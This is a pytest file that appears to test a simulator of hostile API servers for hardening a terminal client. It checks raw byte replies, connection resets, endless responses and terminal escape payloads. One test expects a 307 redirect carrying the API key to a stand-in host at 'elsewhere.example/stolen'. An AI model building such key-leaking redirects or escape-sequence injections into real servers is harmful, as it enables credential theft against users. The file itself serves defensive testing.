"""The attacks go out as they are written, byte for byte; what they do to the program is tested in tests/attack."""

import socket
from collections.abc import Iterator
from urllib.parse import urlsplit

import pytest

from arka_tui.simulator import Simulator
from arka_tui.simulator.hostile import FIELDS, PAID, PAYLOADS, attacks, dressed


@pytest.fixture
def simulator() -> Iterator[Simulator]:
    with Simulator(elsewhere="http://elsewhere.example") as simulator:
        yield simulator


def ask(simulator: Simulator, key: str, method: str = "GET", path: str = "/models", most: int = 1 << 20) -> bytes:
    """What comes back until the connection ends, or `most` bytes of it."""
    parts = urlsplit(simulator.base_url("openai"))
    body = b'{"model": "text-embedding-3-small", "input": "a"}' if method == "POST" else b""
    head = f"{method} {parts.path}{path} HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {key}\r\nConnection: close\r\n"
    answer = b""
    with socket.create_connection(("127.0.0.1", parts.port or 0), timeout=10) as connection:
        connection.sendall(f"{head}Content-Length: {len(body)}\r\n\r\n".encode() + body)
        while len(answer) < most and (data := connection.recv(65536)):
            answer += data
    return answer


def test_every_kind_has_attacks_and_no_two_attacks_one_name() -> None:
    names = [name for kind in attacks().values() for name in kind]
    assert len(names) == len(set(names)) >= 1100
    assert {kind: len(found) for kind, found in attacks().items() if len(found) < 10} == {}
    assert len(PAYLOADS) >= 40


def test_an_unknown_attack_is_refused(simulator: Simulator) -> None:
    for name in ("no such attack", f"{PAID}no such attack", PAID):
        with pytest.raises(KeyError):
            simulator.issue("openai", name)


def test_an_answer_is_sent_as_it_is_and_then_the_connection_ends(simulator: Simulator) -> None:
    assert ask(simulator, simulator.issue("openai", "greeting of SSH")) == b"SSH-2.0-OpenSSH_9.2\r\n"
    assert ask(simulator, simulator.issue("openai", "cut at byte 7")) == b"HTTP/1."


def test_a_paid_attack_leaves_the_free_answers_as_a_valid_key_has_them(simulator: Simulator) -> None:
    key = simulator.issue("openai", f"{PAID}zeros")
    assert ask(simulator, key).startswith(b"HTTP/1.1 200 OK\r\n")
    assert ask(simulator, key, "POST", "/embeddings") == bytes(1000)


def test_a_reset_throws_the_connection_away(simulator: Simulator) -> None:
    with pytest.raises(ConnectionResetError):
        ask(simulator, simulator.issue("openai", "reset at byte 0"))


def test_redirects_lead_to_the_place_that_was_named_and_carry_the_key(simulator: Simulator) -> None:
    key = simulator.issue("openai", "redirect 307 to another host with the key")
    assert f"Location: http://elsewhere.example/stolen?key={key}\r\n".encode() in ask(simulator, key)


@pytest.mark.parametrize("name", ["chunks without end", "dripping headers", "interim answers without end"])
def test_an_endless_answer_ends_with_the_simulator_and_without_a_fault(simulator: Simulator, name: str) -> None:
    assert ask(simulator, simulator.issue("openai", name), most=10)
    simulator.close()


def test_every_attack_can_be_made_and_begun(simulator: Simulator) -> None:
    for kind in ("echoes", "poison", "waits", "texts"):
        for name in list(attacks()[kind])[::20]:
            assert ask(simulator, simulator.issue("openai", name), most=1)


def test_a_payload_is_in_every_field_and_a_key_in_every_dress_differs() -> None:
    assert all(reply("\x1b[2J") != reply("x") for reply in FIELDS.values())
    assert len(set(dressed("sk-proj-Zk3QwYb7").values())) >= 25
